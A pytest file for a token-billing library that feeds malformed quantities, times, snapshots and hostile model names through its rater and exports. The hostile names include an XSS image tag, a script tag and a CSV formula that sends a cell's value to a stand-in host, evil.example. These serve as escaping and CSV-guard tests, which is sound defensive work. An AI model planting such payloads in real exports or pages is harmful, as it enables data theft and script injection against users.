"""An LLM API's token feed, attacked: bad token counts, instants, names, snapshots.

Read from the guarantees, usage, streaming, exports and invoices pages only. Model
names come from customers' requests (a fine-tuned model's name is the customer's to
choose), so they reach meters, entries, resources and exports; the gateway's queue
sends what it sends. Every refusal must be a ``RatekitError`` naming the record or
field; names must reach JSON rows unchanged and HTML escaped; a refused batch must
leave the rater as it was.
"""

from __future__ import annotations

import json
import re
from decimal import Decimal
from typing import Any

import pytest

import ratekit as rk

MONTHS = rk.cycles.monthly(tz="UTC")
MARCH = rk.Span("2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z")
IN = rk.Meter("small.in", "token", rk.Discrete())
LIST = rk.Plan(
    "list", "USD", MONTHS, [rk.PriceEntry("small.in", "small.in", rk.PerUnit("0.00000015"))]
)
MARCH_2 = 1_772_409_600_000_000  # 2026-03-02T00:00:00Z in epoch microseconds


@pytest.mark.parametrize(
    ("tokens", "error", "words"),
    [
        (True, rk.RatekitTypeError, "not bool"),
        (None, rk.RatekitTypeError, "not NoneType"),
        (float("nan"), rk.BadQuantityError, "finite number"),
        (Decimal("sNaN"), rk.BadQuantityError, "finite number"),
        ("1_000", rk.BadQuantityError, "not written plainly"),
        (" 5", rk.BadQuantityError, "not written plainly"),
        ("١٢", rk.BadQuantityError, "not written plainly"),
        ("0x10", rk.BadQuantityError, "not a decimal number"),
        ("1e30", rk.BadQuantityError, "outside the numbers ratekit represents"),
        ("1e-31", rk.BadQuantityError, "outside the numbers ratekit represents"),
        ("1" * 61, rk.BadQuantityError, "outside the numbers ratekit represents"),
        ([1000], rk.RatekitTypeError, "not list"),
    ],
)
def test_a_bad_token_count_is_refused_naming_the_sample_and_its_value(
    tokens: Any, error: type, words: str
) -> None:
    with pytest.raises(error) as refused:
        rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", tokens, id="req-1")
    assert "sample 'req-1' value" in str(refused.value)
    assert words in str(refused.value)
    with pytest.raises(error) as refused:
        rk.RecordBatch.from_tuples(
            samples=[("a", "chat", "small.in", MARCH_2, tokens, "delta", "req-1")]
        )
    assert "(id 'req-1'): value" in str(refused.value)


@pytest.mark.parametrize(
    ("at", "words"),
    [
        ("2026-03-31T23:59:59.9999999Z", "finer than a microsecond"),  # never rounded into April
        ("2026-03-31T23:59:60Z", "leap second"),
        ("2026-03-31T24:00:00Z", "no such date or time"),
        ("2026-03-31T23:59:59", "no UTC offset"),
    ],
)
def test_an_instant_ratekit_cannot_place_exactly_is_refused(at: str, words: str) -> None:
    with pytest.raises(rk.BadTimeError, match=words):
        rk.Sample("a", "chat", "small.in", at, 1, id="req-1")


def test_one_token_and_a_trillion_through_the_plain_tuples_door() -> None:
    # 10^12 tokens at 0.00000015 = 150,000.00; 1 token adds 0.00000015, 0.00 on the invoice
    batch = rk.RecordBatch.from_tuples(
        samples=[
            ("a", "chat", "small.in", MARCH_2, 10**12, "delta", "big"),
            ("a", "chat", "small.in", MARCH_2, 1, "delta", "one"),
        ]
    )
    rater = rk.Rater(LIST, [IN], start=MARCH.start)
    assert rater.feed(batch).accepted == ("big", "one")
    [invoice] = rater.statement(MARCH.end).invoices
    assert invoice.precise_total == Decimal("150000.00000015")
    assert invoice.total == Decimal("150000.00")


def test_a_refund_with_no_usage_before_it_is_refunded_under_a_per_token_price() -> None:
    # pricing.md, "Corrections and allowances": "A net below zero stays what it was without
    # an allowance: PerUnit refunds it". A refund of -10^12 tokens alone: -150,000.00
    rater = rk.Rater(LIST, [IN], start=MARCH.start)
    rater.feed([rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", -(10**12), id="refund")])
    [invoice] = rater.statement(MARCH.end).invoices
    assert invoice.total == Decimal("-150000.00")


def test_usage_whose_amount_leaves_the_range_is_refused_whole_at_the_feed() -> None:
    # 9E+29 tokens at 9E+29 a token would be 8.1E+59: rate() refuses it with a BadPriceError,
    # the feed refuses the batch whole (BadQuantityError) and the rater stays as it was
    huge = rk.Plan("huge", "USD", MONTHS, [rk.PriceEntry("in", "small.in", rk.PerUnit("9e29"))])
    records = [
        rk.Sample("a", "chat", "small.in", f"2026-03-02T00:00:0{i}Z", "9e29", id=f"s{i}")
        for i in range(2)
    ]
    with pytest.raises(rk.BadPriceError, match="outside the amounts ratekit carries exactly"):
        rk.rate(records, huge, span=MARCH, meters=[IN])
    rater = rk.Rater(huge, [IN], start=MARCH.start)
    before = rater.snapshot()
    # (the class rk.rate raises above: one class for one input)
    with pytest.raises(rk.BadPriceError, match="The batch is refused whole"):
        rater.feed(records)
    assert rater.snapshot() == before


def test_the_tiers_cap_is_kept_across_feeds_restarts_and_resources() -> None:
    # under a price other than PerUnit a cycle's quantity must stay below 1E+30: 9E+29 taken,
    # another 9E+29 of the account refused at the feed (another feed, after a restart, on
    # another resource), and the month still closes at 9E+29 x 1E-20 = 9,000,000,000.00
    tiered = rk.Plan(
        "t",
        "USD",
        MONTHS,
        [rk.PriceEntry("in", "small.in", rk.Graduated([rk.Tier(None, "1e-20")]))],
    )
    rater = rk.Rater(tiered, [IN], start=MARCH.start)
    rater.feed([rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", "9e29", id="s1")])
    rater.statement("2026-03-02T12:00:00Z")
    rater = rk.Rater.restore(json.loads(json.dumps(rater.snapshot())), tiered, [IN])
    with pytest.raises(rk.BadQuantityError, match="sample 's2'"):
        rater.feed([rk.Sample("a", "job", "small.in", "2026-03-03T00:00:00Z", "9e29", id="s2")])
    [invoice] = rater.statement(MARCH.end).invoices
    assert invoice.total == Decimal("9000000000.00")


def test_a_redelivery_with_other_tokens_is_a_conflict_not_a_second_charge() -> None:
    # the queue redelivers request 'req-1' as its refund under the same id: the feed calls
    # it conflicting and keeps the first version (1,000 tokens, 0.00015); batch refuses both
    first = rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", 1000, id="req-1")
    other = rk.Sample("a", "chat", "small.in", "2026-03-02T05:00:00Z", -1000, id="req-1")
    rater = rk.Rater(LIST, [IN], start=MARCH.start)
    rater.feed([first])
    assert rater.feed([other]).conflicting == ("req-1",)
    assert rater.feed([first]).duplicates == ("req-1",)
    [invoice] = rater.statement(MARCH.end).invoices
    assert invoice.precise_total == Decimal("0.00015")
    with pytest.raises(rk.ConflictingRecordError):
        rk.rate([first, other], LIST, span=MARCH, meters=[IN])


def test_a_model_the_rater_does_not_meter_is_refused_and_nothing_of_the_batch_is_taken() -> None:
    rater = rk.Rater(LIST, [IN], start=MARCH.start)
    good = rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", 1000, id="ok")
    unknown = rk.Sample("a", "chat", "gpt-9.in", "2026-03-02T00:00:00Z", 1000, id="new-model")
    with pytest.raises(
        rk.UnknownMeterError, match=re.escape("sample 'new-model' meter 'gpt-9.in'")
    ):
        rater.feed([good, unknown])
    assert rater.feed([good]).accepted == ("ok",)


def test_a_damaged_snapshot_or_another_price_list_is_refused_on_restore() -> None:
    rater = rk.Rater(LIST, [IN], start=MARCH.start)
    rater.feed([rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", 1000, id="s")])
    rater.statement("2026-03-03T00:00:00Z")
    stored = json.loads(json.dumps(rater.snapshot()))
    damaged = json.loads(json.dumps(stored))
    damaged["body"]["as_of_us"] += 1
    with pytest.raises(rk.BadSnapshotError, match="checksum"):
        rk.Rater.restore(damaged, LIST, [IN])
    cheaper = rk.Plan(
        "list", "USD", MONTHS, [rk.PriceEntry("small.in", "small.in", rk.PerUnit("0.00000012"))]
    )
    with pytest.raises(rk.BadSnapshotError, match="other plans or meters"):
        rk.Rater.restore(stored, cheaper, [IN])
    for junk in (None, "x", {}, []):
        with pytest.raises(rk.BadSnapshotError):
            rk.Rater.restore(junk, LIST, [IN])


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "gpt\n4o",
    "gpt\u202e4o",
    "a\\nb",
    'a"b,c',
    "m\x00",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_model_name_stays_data_in_every_export(name: str) -> None:
    # the name is the meter, the price entry, the account and the resource at once
    meter = rk.Meter(name, "token", rk.Discrete())
    plan = rk.Plan("p", "USD", MONTHS, [rk.PriceEntry(name, name, rk.PerUnit("0.000001"))])
    records = [rk.Sample(name, name, name, "2026-03-02T00:00:00Z", 10**6, id=name)]
    rating = rk.rate(records, plan, span=MARCH, meters=[meter])
    [invoice] = rk.bill(rating)
    rater = rk.Rater(plan, [meter], start=MARCH.start)
    rater.feed(records)
    statement = rater.statement(MARCH.end)
    assert statement.invoices[0].total == invoice.total == Decimal("1.00")  # 10^6 x 0.000001
    # HTML: escaped, control and format characters shown as escapes
    for page in (invoice._repr_html_(), rating._repr_html_(), statement._repr_html_()):
        assert "<img" not in page
        assert "\n4o" not in page
        assert "\u202e" not in page
    # text: one line per invoice line, whatever the name
    assert len(str(invoice).splitlines()) == 6
    # JSON rows: the name unchanged, the row read back equal
    assert rk.from_row(rk.Invoice, json.loads(json.dumps(rk.to_row(invoice)))) == invoice
    for line in statement.lines:
        assert rk.from_row(type(line), json.loads(json.dumps(rk.to_row(line)))) == line
    assert rk.to_row(invoice)["lines"][0]["meter"] == name


def test_the_docs_csv_guard_keeps_formulas_out_and_numbers_in() -> None:
    # exports.md, "CSV and spreadsheets": prefix with ' every text cell starting with =, +,
    # -, @, tab or CR that is not a number; a refund's BilledCost of -0.15 stays a number
    number = re.compile(r"[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?")

    def guarded(cell: object) -> object:
        if not isinstance(cell, str) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            return cell
        return cell if number.fullmatch(cell) else "'" + cell

    evil = HOSTILE[1]
    meter = rk.Meter("m", "token", rk.Discrete())
    plan = rk.Plan("p", "USD", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit("0.00000015"))])
    refund = [rk.Sample(evil, "@SUM(1+1)", "m", "2026-03-02T00:00:00Z", -(10**6), id="r")]
    rows = rk.focus_rows(
        rk.bill(rk.rate(refund, plan, span=MARCH, meters=[meter])), provider="LLM API"
    )
    cells = [
        {key: guarded(row[key]) for key in ("BillingAccountId", "ResourceId", "BilledCost")}
        for row in rows
    ]
    assert cells == [
        {"BillingAccountId": "'" + evil, "ResourceId": "'@SUM(1+1)", "BilledCost": "-0.15"}
    ]


def test_a_hostile_candidate_name_is_escaped_in_the_comparison_page() -> None:
    cheaper = rk.Plan(
        "cheaper", "USD", MONTHS, [rk.PriceEntry("e", "small.in", rk.PerUnit("0.00000012"))]
    )
    records = [rk.Sample("a", "chat", "small.in", "2026-03-02T00:00:00Z", 10**6, id="s")]
    candidates = {"list": LIST, "<script>alert(1)</script>": cheaper}
    comparison = rk.compare_plans(records, candidates, span=MARCH, meters=[IN])
    assert "<script>" not in comparison._repr_html_()
    assert comparison.totals() == {
        "list": Decimal("0.15"),
        "<script>alert(1)</script>": Decimal("0.12"),
    }
    with pytest.raises(rk.RatekitTypeError, match="visible character"):
        rk.compare_plans(records, {"list": LIST, "": cheaper}, span=MARCH, meters=[IN])
